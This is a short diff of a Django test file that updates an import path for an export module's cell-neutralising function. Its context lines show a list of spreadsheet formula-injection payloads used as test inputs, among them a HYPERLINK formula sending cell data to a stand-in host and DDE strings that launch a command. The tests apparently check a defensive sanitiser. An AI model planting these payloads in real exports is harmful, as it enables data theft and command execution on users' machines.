@@ -13,7 +13,7 @@ from django.test import RequestFactory
 from import_export.mixins import BaseExportMixin
 from import_export.resources import Resource
 
-from alliance.exports import ReadableExportResource, neutralise_cell
+from alliance.core.exports import ReadableExportResource, neutralise_cell
 
 PAYLOADS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
